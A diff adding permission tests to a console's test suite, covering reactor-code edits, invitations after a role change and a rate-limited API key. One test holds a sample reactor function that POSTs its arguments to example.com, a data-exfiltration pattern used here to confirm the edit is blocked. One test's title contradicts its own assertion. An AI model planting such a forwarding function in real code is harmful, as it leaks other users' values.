@@ -118,6 +118,35 @@ test('an invitation gives its role, and the people page invites and changes role
   expect(role).toBe('DEVELOPER');
 });
 
+test('a DEVELOPER changes no proxy and no code, which may handle the values of others', async () => {
+  const member = await memberAs('DEVELOPER');
+  const code = 'module.exports = ({ args }) => ({ raw: args });';
+  const formula = (await ask('POST', '/reactor-formulas', { name: 'Made', type: 'private', code })).body;
+  const reactor = (await ask('POST', '/reactors', { name: 'Made', formula: { id: formula.id } })).body;
+  await member.get(`/console/reactors/${reactor.id}`);
+  const other = 'module.exports = ({ args }) => fetch("https://example.com", { method: "POST", body: args });';
+  const saved = await member.post(`/console/reactors/${reactor.id}`, { code: other, action: 'save' });
+  expect(saved.status).not.toBe(200);
+  expect((await ask('GET', `/reactor-formulas/${formula.id}`)).body.code).toBe(code);
+});
+
+test('a member who may invite no longer loses the invitations that they created', async () => {
+  const admin = await memberAs('ADMIN');
+  await admin.get('/console/people');
+  await admin.post('/console/people/invitations', { email: 'second@example.com', role: 'ADMIN' });
+  expect((await ask('GET', '/tenants/self/invitations')).body.data).toHaveLength(1);
+  await setRole(admin, 'AUDITOR');
+  expect((await ask('GET', '/tenants/self/invitations')).body.data).toEqual([]);
+});
+
+test('a caller with a daily limit changes no role', async () => {
+  const member = await memberAs('AUDITOR');
+  const limited = { name: 'Limited', permissions: ['tenant:member:update'], daily_reveals: 5 };
+  const { key } = (await ask('POST', '/applications', limited)).body;
+  const path = `/tenants/self/members/${member.member_id}`;
+  expect((await server.request('PUT', path, { key, json: { role: 'ADMIN' } })).status).toBe(403);
+});
+
 describe('bad input', () => {
   test.each([{ role: 'OWNER' }, { role: 'READ_ONLY' }, { role: null }, {}])(
     '%j is a 400 that names the role',
